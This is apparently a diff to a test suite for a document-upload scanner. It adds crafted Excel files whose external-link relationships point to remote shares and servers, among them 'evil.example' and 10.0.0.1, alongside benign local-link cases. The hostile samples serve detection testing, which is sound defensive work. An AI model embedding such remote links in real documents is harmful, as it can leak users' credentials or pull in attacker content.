@@ -500,6 +500,18 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
             "总结报告.docx",
             _rezip(REAL_DOCX, {"word/_rels/footer9.xml.rels": _rels("image", "file://10.0.0.1/share/x.png")}),
         ),
+        # another workbook on a share or a web server, which Excel offers to update on opening (a tester's finding:
+        # refused as a linked image, accepted as a linked workbook)
+        *(
+            ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/_rels/externalLink1.xml.rels": _rels(kind, target)}))
+            for kind, target in (
+                ("externalLinkPath", "file:///\\\\evil.example\\share\\book.xlsx"),
+                ("externalLinkPath", "\\\\10.0.0.1\\share\\县数据.xlsx"),
+                ("externalLinkPath", "http://10.0.0.1/县数据.xlsx"),
+                ("externalLinkPath", "file://10.0.0.1/share/县数据.xlsx"),
+                ("xlPathMissing", "//10.0.0.1/share/县数据.xlsx"),
+            )
+        ),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/webSettings.xml.rels": _rels("frame", "\\\\10.0.0.1\\x")})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/a.xml.rels": _rels("subDocument", "http://10.0.0.1/s.docx")})),
         (
@@ -688,6 +700,14 @@ def _legit() -> list[tuple[str, bytes]]:
                     )
                 },
             ),
+        ),
+        *(  # a workbook linked to another on the clerk's own disk: Excel reads nothing from elsewhere
+            ("汇总表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/_rels/externalLink1.xml.rels": _rels(kind, target)}))
+            for kind, target in (
+                ("externalLinkPath", "file:///C:\\统计\\县数据.xlsx"),
+                ("externalLinkPath", "县数据.xlsx"),
+                ("externalLinkPath", "../各县/县数据.xlsx"),
+            )
         ),
         ("得分.csv", "单位,得分,变化,备注\n乐平镇,91,-3,\n皋落镇,85,+2.5,良好\n东冶头镇,77,-0.5,-\n".encode("gb18030")),
         (
